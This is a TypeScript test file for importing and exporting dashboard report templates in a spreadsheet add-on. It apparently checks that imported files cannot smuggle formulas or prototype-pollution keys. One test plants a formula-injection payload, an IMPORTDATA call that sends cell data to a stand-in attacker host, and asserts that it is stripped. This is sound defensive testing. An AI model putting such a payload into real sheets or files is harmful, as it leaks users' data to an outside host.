import { READY_KINDS } from '../../../shared/dashboard/blueprint';
import { ownPlans } from '../../../shared/dashboard/ready/own-plans';
import { READY_SHEETS } from '../../../shared/dashboard/ready/ready-sheets';
import { withReady } from '../../../shared/ui/gallery/ready-in-file';
import { type PanelBench, panelBench } from '../panel/panel-bench';

let bench: PanelBench;
beforeEach(() => {
  bench = panelBench();
});

const kept = (of: PanelBench) =>
  [...of.documents.entries].filter(([key]) => key.startsWith('activtrak.ready.')).map(([, text]) => JSON.parse(String(text)));
const exported = (): string => bench.call('exportReports', {}).json;

function made(kind: (typeof READY_KINDS)[number]): string {
  const { defaults, make } = READY_SHEETS[kind];
  const { report, blueprint } = make({ ...defaults, people: 'pseudonyms', metric: 'total', goal: 7.5, grace: 15, weekStart: 7 });
  return bench.call('makeReady', {
    report: { ...report, name: `Our ${kind}` },
    blueprint: { ...blueprint, title: `Our ${kind}` },
    own: ownPlans(blueprint.needs),
  }).id;
}

it('Each ready sheet goes along in a file of reports, with what was chosen and without a formula', () => {
  READY_KINDS.forEach(made);
  const json = exported();
  expect(json).not.toMatch(/"=|SUMIFS|\{report\./);
  const other = panelBench();
  const { others, ...request } = withReady(json);
  expect(others).toEqual([]);
  expect(other.call('importReports', request).message).toBe('10 reports imported.');
  const byKind = (one: PanelBench) => new Map(kept(one).map((ready) => [ready.blueprint.kind, ready]));
  expect(byKind(other)).toEqual(byKind(bench));
  const views = other.call('open', {}).reports;
  expect(views.map(({ ready }) => ready?.title)).toEqual(views.map(({ report }) => report.name));
  for (const { report } of views) expect(report).not.toHaveProperty('ready');
});

it('What a stranger wrote into a file is no formula, no column and no text on a sheet', () => {
  made('timesheet');
  const file = JSON.parse(exported());
  const evil = '=IMPORTDATA("https://evil.example/"&A1)';
  Object.assign(file.reports[0].ready, {
    blueprint: { kind: 'timesheet', columns: [{ formula: evil }] },
    columns: [{ formula: evil }],
    top: [evil],
  });
  Object.assign(file.reports[0].ready.inputs, { goal: evil, workdays: evil, short: evil, own: 3 });
  const { ready } = withReady(JSON.stringify(file));
  expect(JSON.stringify(ready)).not.toContain('evil');
  expect(ready[0]?.blueprint.top.find(({ key }) => key === 'goal')?.holds).toEqual({ kind: 'input', value: 8 });
});

it('A ready sheet of a newer version stays in its report, is named, and goes on in the next file', () => {
  made('timesheet');
  const file = JSON.parse(exported());
  const newer = { kind: 'crystal-ball', inputs: { future: 1 }, more: ['things'] };
  file.reports[0].ready = newer;
  const { others, ...request } = withReady(JSON.stringify(file));
  expect([others, request.ready]).toEqual([['Our timesheet'], {}]);
  bench = panelBench();
  bench.call('importReports', request);
  expect(kept(bench)).toEqual([]);
  expect(JSON.parse(exported()).reports[0].ready).toEqual(newer);
});

it.each(['constructor', '__proto__', '', 7, null, undefined])('The kind %p is none', (kind) => {
  const report = { name: 'X', ready: { kind, inputs: null } };
  expect(withReady(JSON.stringify({ reports: [report, { ready: null }, null, 3] }))).toMatchObject({
    ready: {},
    others: ['X', 'undefined'],
  });
});

it('What is no file of reports is passed on as it is, so that it is refused with the reason', () => {
  for (const json of ['', 'null', '{}', '{"reports":1}', '[1]']) expect(withReady(json)).toEqual({ json, ready: {}, others: [] });
});

it('A ready sheet that somebody deleted is in no file', () => {
  const id = made('timesheet');
  bench.call('refresh', { id });
  bench.sheets.deleteSheet('Our timesheet');
  bench.call('refresh', { id });
  expect(JSON.parse(exported()).reports[0]).not.toHaveProperty('ready');
});

it('Reports that can’t all be saved leave no ready sheet behind', () => {
  made('timesheet');
  made('weekly');
  const { others: _, ...request } = withReady(exported());
  const other = panelBench();
  let room = 1;
  const documents = {
    ...other.documents,
    set(key: string, value: string) {
      if (key.includes('.report.') && room-- <= 0) throw new Error('There is no room.');
      return other.documents.set(key, value);
    },
  };
  expect(other.refusal('importReports', request, { documents })).not.toBe('');
  expect([kept(other), other.call('open', {}).reports]).toEqual([[], []]);
});
